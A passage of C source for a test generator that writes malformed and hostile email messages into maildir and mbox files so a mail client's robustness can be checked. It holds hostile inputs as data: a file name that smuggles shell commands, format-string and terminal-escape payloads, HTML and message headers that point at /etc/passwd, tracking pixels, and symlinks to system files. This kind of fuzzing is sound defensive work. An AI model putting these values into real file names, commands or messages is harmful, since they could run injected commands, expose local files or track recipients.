    {"re-fwd", many_re, "Fwd: Re: AW: "},
    {"re-parens", many_re, "(fwd) "},
    {"references", references, NULL},
    {"continuations", continuations, NULL},
    {"parameters", parameters, NULL},
    {"body-quotes", long_body, ">"},
    {"body-quotes-spaced", long_body, "> "},
    {"body-quote-lines", long_body, ">\n"},
    {"body-quote-stairs", long_body, ">>>>>>>>>>\n>\n>>>>> x\n"},
    {"body-lines", long_body, "\n"},
    {"body-cr", long_body, "\r"},
    {"body-combining", long_body, "\314\200"},
    {"body-zalgo", long_body, "a\314\200\314\201\314\202\314\203\314\204\n"},
    {"body-flags", long_body, "\360\237\207\246"},
    {"body-zwj", long_body, "\360\237\221\250\342\200\215"},
    {"body-rtl", long_body, "\330\247 a 1 "},
    {"body-isolates", long_body, "\342\201\246"},
    {"body-links", long_body, "http://a.b/ "},
    {"body-link", long_body, "http://a.b/?"},
    {"body-http", long_body, "http://"},
    {"body-mail", long_body, "a@"},
    {"body-www", long_body, "www."},
    {"body-tabs", long_body, "\t"},
    {"body-signatures", long_body, "-- \n"},
    {"body-patch", long_body, "diff --git a/x b/x\n@@ -1 +1 @@\n+a\n-b\n"},
    {"body-from", long_body, "From x\n"},
    {"body-pgp", long_body, "-----BEGIN PGP MESSAGE-----\n"},
    {"body-uu", long_body, "begin 644 x\n"},
    {"body-invalid", long_body, "\377\376\200"},
    {"body-esc", long_body, "\033["},
    {"flowed", long_flowed, "a \n"},
    {"flowed-quotes", long_flowed, "> a \n>> b \n"},
    {"flowed-spaces", long_flowed, " "},
    {"html-open", long_html, "<"},
    {"html-open-tag", long_html, "<a "},
    {"html-comments", long_html, "<!--"},
    {"html-comment-ends", long_html, "<!-- -"},
    {"html-ampersands", long_html, "&"},
    {"html-entity", long_html, "&#x1b;"},
    {"html-entity-open", long_html, "&CounterClockwiseContourIntegra"},
    {"html-links", long_html, "<a href='http://a.b/'>x</a>"},
    {"html-images", long_html, "<img src='http://t.example/p.gif' width=1 height=1>"},
    {"html-scripts", long_html, "<script>"},
    {"html-styles", long_html, "<style>a{}"},
    {"html-quotes", long_html, "<p a=\""},
    {"html-rows", long_html, "<table><tr><td>x</table>"},
    {"html-lists", long_html, "<ul><li>x"},
    {"html-formatting", long_html, "<b><i><p>"},
    {"html-ends", long_html, "</p></b></table>"},
    {"html-pre", long_html, "<pre>\n\n"},
    {"html-words", long_html, "wordwithoutend"},
    {"html-nbsp", long_html, "&nbsp;"},
    {"html-titles", long_html, "<title>"},
    {"html-select", long_html, "<select><option>"},
    {"html-cdata", long_html, "<![CDATA["},
    {"html-attributes", html_attributes, NULL},
    {"html-classes", html_sheet, "<b class='x x x x x x x x x x x x x x x x'>a</b>"},
    {"html-sheets", html_sheet, "<style>p{color:red}</style><b>a</b>\n"},
    {"html-link-lines", html_one_link, "a<br>"},
    {"html-div", html_deep, "<div>"},
    {"html-blockquote", html_deep, "<blockquote>"},
    {"html-ul", html_deep, "<ul>"},
    {"html-font", html_deep, "<font color=red>"},
    {"html-deep-link", html_deep, "<a href=x>"},
    {"html-deep-unclosed", html_deep, "<p><span>"},
    {"html-tables", html_tables, "<table><tr><td>"},
    {"html-tables-sized", html_tables, "<table width=100% border=1><tr><td width=50%>a<td>"},
    {"html-tables-lists", html_tables, "<table><tr><td><ul><li><blockquote>"},
    {"html-wide-table", html_wide_table, NULL},
    {"html-remote", html_one,
     "<link rel=stylesheet href='http://127.0.0.1:9/'><img src='file:///etc/passwd'><iframe "
     "src='file:///etc/passwd'>"
     "</iframe><object data='file:///etc/passwd'></object><base href='file:///'><meta "
     "http-equiv=refresh "
     "content='0;url=file:///etc/passwd'><form action='http://e'><input value='\033[2J'></form>"
     "<div style='display:none'>hidden</div><p style='font-size:0'>zero</p>x"},
    {"uu-full", uu, "M0123456789012345678901234567890123456789012345678901234567890\n"},
    {"uu-short", uu, "M\n"},
    {"uu-odd", uu, "\377\n~~~~\n"},
    {"nul-everywhere", nul_all, NULL},
    {"only-nul", only_nul, NULL},
    {"only-crlf", only, "\r\n"},
    {"only-lf", only, "\n"},
    {"only-cr", only, "\r"},
    {"only-space", only, " "},
    {"only-colon", only, ":"},
    {"only-esc", only, "\033"},
    {"empty", nothing, NULL},
    {"starts-empty", as_is, "\r\nbody behind an empty line\n"},
    {"no-end", as_is, "Subject: no end"},
    {"fold-first", as_is, " folded first\n\tand again\nSubject: x\n\nbody\n"},
    {"headerless", as_is, "just text\nand more\n"},
    {"date-1900", date, "Mon, 1 Jan 1900 00:00:00 +0000"},
    {"date-0000", date, "Mon, 0 Jan 0000 00:00:00 +0000"},
    {"date-9999", date, "Fri, 31 Dec 9999 23:59:59 -9999"},
    {"date-huge", date, "Fri, 31 Dec 100000000000 23:59:59 +0000"},
    {"date-overflow", date, "99999999999999999999 Jan 2147483648 99:99:99 +99999999999"},
    {"date-negative", date, "Mon, -1 Jan -2026 -1:-1:-1 -0000"},
    {"date-digits", date, "11111111111111111111111111111111111111111111111111111111111111111"},
    {"date-2038", date, "Tue, 19 Jan 2038 03:14:08 +0000"},
    {"base64-garbage", base64_body, "!!!===%%%\033AA=A=A\n"},
    {"base64-equals", base64_body, "="},
    {"base64-esc", base64_body, "G1sySg==\n"},
    {"qp-equals", qp_body, "="},
    {"qp-esc", qp_body, "=1B=5B2J=\n"},
    {"qp-bad", qp_body, "=GG=1=\r=\n"},
    {"tnef", tnef, NULL},
    {"names", names, NULL},
    {"inject", inject, NULL},
    {"encrypted", encrypted, NULL},
    {"no-boundary", as_is, "Content-Type: multipart/mixed\nSubject: none\n\n--b\n\nx\n--b--\n"},
    {"boundary-empty", as_is,
     "Content-Type: multipart/mixed; boundary=\"\"\nSubject: 0\n\n--\n\nx\n----\n"},
    {"boundary-dashes", as_is,
     "Content-Type: multipart/mixed; boundary=\"--\"\nSubject: -\n\n----\n\nx\n------\n"},
    {"boundary-prefix", as_is,
     "Content-Type: multipart/mixed; boundary=a\nSubject: prefix\n\n--a\nContent-Type: "
     "multipart/mixed; boundary=ab\n\n"
     "--ab\n\nx\n--abc\n\ny\n--ab--\n--a--\n"},
    {"type-odd", as_is, "Content-Type: /;;;=\nSubject: odd type\nContent-Disposition: ;=;\n\nx\n"},
    {"type-charset", as_is, "Content-Type: text/plain; charset=\nSubject: odd\n\nx\n"},
    {"partial", as_is,
     "Content-Type: message/partial; id=x; number=99999999999; total=-1\nSubject: p\n\nSubject: "
     "q\n\nx\n"},
    {"external", as_is,
     "Content-Type: message/external-body; access-type=local-file; name=\"/etc/passwd\"\nSubject: "
     "e\n\n\nx\n"},
    {"loop-a", loop, "Message-ID: <loop-a@e>\nIn-Reply-To: <loop-b@e>\nReferences: <loop-b@e>\n"},
    {"loop-b", loop, "Message-ID: <loop-b@e>\nIn-Reply-To: <loop-a@e>\nReferences: <loop-a@e>\n"},
    {"loop-self", loop,
     "Message-ID: <self@e>\nIn-Reply-To: <self@e>\nReferences: <self@e> <self@e>\n"},
    {"loop-three-a", loop, "Message-ID: <l1@e>\nReferences: <l3@e> <l2@e>\n"},
    {"loop-three-b", loop, "Message-ID: <l2@e>\nReferences: <l1@e> <l3@e>\n"},
    {"loop-three-c", loop, "Message-ID: <l3@e>\nReferences: <l2@e> <l1@e>\n"},
    {"same-id-a", loop, "Message-ID: <same@e>\n"},
    {"same-id-b", loop, "Message-ID: <same@e>\nReferences: <same@e>\n"},
    {"id-empty", loop, "Message-ID: <>\nReferences: <> <>\n"},
    {"id-odd", loop, "Message-ID: <a b\033[2J@\"c>\nReferences: <a <b <c\n"},
    {"huge-plain", huge_line, "text/plain"},
    {"huge-html", huge_line, "text/html"},
    {"huge-base64", huge_line, "text/plain\nContent-Transfer-Encoding: base64"},
    {"huge-attachment", huge_line, "application/pdf; name=x.pdf"},
};
#define LETTERS (sizeof letters / sizeof *letters)

/* --- into files ----------------------------------------------------------------------------- */

#define MBOX_LETTER_MAX 10000000
#define HUGE_LEAST	40000000 /* what is called huge has more, and need not be made to be left out */

struct place {
	const char *dir;
	size_t most;
	long count;
	FILE *mbox;
};

static FILE *open_at(const char *dir, const char *name)
{
	char path[4096];
	FILE *file;

	snprintf(path, sizeof path, "%s/%s", dir, name);
	file = fopen(path, "w");
	if (!file) {
		perror(path);
		exit(1);
	}
	return file;
}

/* A line that begins with "From " would begin another letter. */
static void into_mbox(FILE *mbox, const char *bytes, size_t len)
{
	const char *end = bytes + len, *next;

	fprintf(mbox, "From hostile@example.org Mon Nov 23 12:00:00 2026\n");
	for (; bytes < end; bytes = next) {
		const char *from = bytes;

		next = memchr(bytes, '\n', (size_t)(end - bytes));
		next = next ? next + 1 : end;
		while (from < end && *from == '>')
			from++;
		if (end - from >= 5 && !memcmp(from, "From ", 5))
			fputc('>', mbox);
		fwrite(bytes, 1, (size_t)(next - bytes), mbox);
	}
	fprintf(mbox, "\n\n");
}

static void put(struct place *place, const char *name, make *maker, const char *text)
{
	char file_name[256], *bytes = NULL;
	size_t len = 0;
	FILE *out;

	if (!place->dir) {
		puts(name);
		return;
	}
	if (place->most && place->most < HUGE_LEAST && !strncmp(name, "huge-", 5))
		return;
	out = open_memstream(&bytes, &len);
	maker(out, text);
	fclose(out);
	if (!place->most || len <= place->most) {
		snprintf(file_name, sizeof file_name, "maildir/cur/%ld.M%ld.%s:2,",
			 1700000000 + place->count, place->count, name);
		place->count++;
		out = open_at(place->dir, file_name);
		fwrite(bytes, 1, len, out);
		fclose(out);
		if (len < MBOX_LETTER_MAX)
			into_mbox(place->mbox, bytes, len);
	}
	free(bytes);
}

static void put_attacks(struct place *place)
{
	static const struct letter kinds[] = {
	    {"fields", raw_fields, NULL},
	    {"encoded", encoded_fields, NULL},
	    {"plain", plain_body, NULL},
	    {"html", html_body, NULL},
	};
	char name[64];

	for (size_t i = 0; i < ATTACKS; i++)
		for (size_t k = 0; k < 4; k++) {
			snprintf(name, sizeof name, "%s-%s", kinds[k].name, attacks[i].name);
			put(place, name, kinds[k].make, attacks[i].bytes);
		}
}

static void put_boundary(FILE *out, const char *unused)
{
	(void)unused;
	fprintf(out, "Subject: long boundary\nContent-Type: multipart/mixed; boundary=\"");
	hostile_repeat(out, "b", 1000);
	fprintf(out, "\"\n\n--");
	hostile_repeat(out, "b", 1000);
	fprintf(out, "\n\nx\n--");
	hostile_repeat(out, "b", 1001);
	fprintf(out, "--\n");
}

/* Boxes that are odd themselves. */
static void odd_boxes(const char *dir)
{
	static const char from[] = "From hostile@example.org Mon Nov 23 12:00:00 2026\n";
	FILE *out = open_at(dir, "odd-from.mbox");

	for (int i = 0; i < 100; i++)
		fprintf(out,
			"%sSubject: first %d\nFrom x@y Mon Nov 23 12:00:00 2026\nTo: "
			"me@localhost\n%s%s\n",
			from, i, from, from);
	fclose(out);
	out = open_at(dir, "odd-escape.mbox");
	fprintf(out, "From %s Mon Nov 23 12:00:00 2026\nSubject: x\n\nFrom %s\n>From %s\n", ALL,
		ALL, ALL);
	fclose(out);
	out = open_at(dir, "odd-length.mbox");
	fprintf(out, "%sSubject: one\nContent-Length: 99999999999999999999\n\nx\n\n", from);
	fprintf(out, "%sSubject: two\nContent-Length: -5\n\nx\n\n%sSubject: three\n\nx", from,
		from);
	fclose(out);
	out = open_at(dir, "odd-junk.mbox");
	fprintf(out, "no From line\n\n\n%s\n%s%s", from, from, from);
	fclose(out);
	fclose(open_at(dir, "odd-empty.mbox"));
}

/* A thread that goes on and on. */
static void long_thread(const char *dir)
{
	FILE *out = open_at(dir, "odd-thread.mbox");

	for (int i = 0; i < 5000; i++) {
		fprintf(out, "From x@y Mon Nov 23 12:00:00 2026\nSubject: Re: on\nMessage-ID: <t%d@e>\n", i);
		fprintf(out, "In-Reply-To: <t%d@e>\nReferences: <t%d@e>\n\nx\n\n", i - 1, i - 1);
	}
	fclose(out);
}

static void folder(const char *dir, const char *name)
{
	char path[4096];

	snprintf(path, sizeof path, "%s/%s", dir, name);
	mkdir(path, 0700);
}

static void maildir(const char *dir, const char *name)
{
	static const char *const inside[] = {"", "/cur", "/new", "/tmp"};
	char path[300];

	for (size_t i = 0; i < 4; i++) {
		snprintf(path, sizeof path, "%s%s", name, inside[i]);
		folder(dir, path);
	}
}

/* Names as another program, or a server, could make them. */
static const char *const file_names[] = {
    "1.a:2,ZZZ\033]0;x\007",
    "1.b\nc:2,S",
    "1.\033[2J\302\2332J\2332J:2,",
    "1.d:2,S:2,R:2,",
    "1.e:3,x",
    "::::",
    "-rf",
    "%s%n%x",
    "1.f;touch x;`touch x`$(touch x)",
    " ",
    "1.g" BIDI,
    "1.h\377\376\300\200",
    ".hidden",
    "1.i:2,abcdefghijklmnopqrstuvwxyz",
    "99999999999999999999.j:2,",
    "1.k,S=-1,W=99999999999999999999:2,",
    "1.l\r\b\b:2,",
};

static void into(const char *dir, const char *sub, const char *name, const char *text)
{
	char path[1000];
	FILE *out;

	snprintf(path, sizeof path, "odd-names/%s/%s", sub, name);
	out = open_at(dir, path);
	fprintf(out, "From: e@e.example\nSubject: %s\n\nbody\n", text);
	fclose(out);
}

/* And what is no letter at all. */
static void no_letters(const char *dir)
{
	static const char *const links[][2] = {{"/etc/passwd", "2.link:2,"},
					       {"/dev/zero", "2.zero:2,"},
					       {"/nowhere", "2.nowhere:2,"},
					       {"2.loop:2,", "2.loop:2,"}};
	char path[4096];

	for (size_t i = 0; i < sizeof links / sizeof *links; i++) {
		snprintf(path, sizeof path, "%s/odd-names/cur/%s", dir, links[i][1]);
		if (symlink(links[i][0], path) < 0)
			perror(path);
	}
	snprintf(path, sizeof path, "%s/odd-names/cur/3.pipe:2,", dir);
	mkfifo(path, 0600);
	folder(dir, "odd-names/cur/3.folder:2,");
	folder(dir, "odd-names/new/3.folder");
}

static void odd_names(const char *dir)
{
	char longest[256] = "4.";

	maildir(dir, "odd-names");
	for (size_t i = 0; i < sizeof file_names / sizeof *file_names; i++) {
		into(dir, "cur", file_names[i], "in cur");
		into(dir, "new", file_names[i], "in new");
	}
	memset(longest + 2, 'x', sizeof longest - 3);
	into(dir, "cur", longest, "the longest name");
	into(dir, "new", longest, "the longest name");
	no_letters(dir);
}

static void put_all(struct place *place)
{
	put_attacks(place);
	put(place, "boundary-1000", put_boundary, NULL);
	for (size_t i = 0; i < LETTERS; i++)
		put(place, letters[i].name, letters[i].make, letters[i].text);
	for (size_t i = 0; i < more_letter_count; i++)
		put(place, more_letters[i].name, more_letters[i].make, more_letters[i].text);
	for (size_t i = 0; i < field_letter_count; i++)
		put(place, field_letters[i].name, field_letters[i].make, field_letters[i].text);
}

int main(int argc, char **argv)
{
	struct place place = {0};

	if (argc < 2) {
		fprintf(stderr, "usage: hostile DIR [MOST_BYTES] | hostile --list\n");
		return 2;
	}
	if (strcmp(argv[1], "--list") != 0) {
		place.dir = argv[1];
		place.most = argc > 2 ? strtoul(argv[2], NULL, 10) : 0;
		maildir(place.dir, "maildir");
		place.mbox = open_at(place.dir, "all.mbox");
	}
	put_all(&place);
	if (!place.dir)
		return 0;
	fclose(place.mbox);
	odd_boxes(place.dir);
	long_thread(place.dir);
	odd_names(place.dir);
	printf("%ld\n", place.count);
	return 0;
}
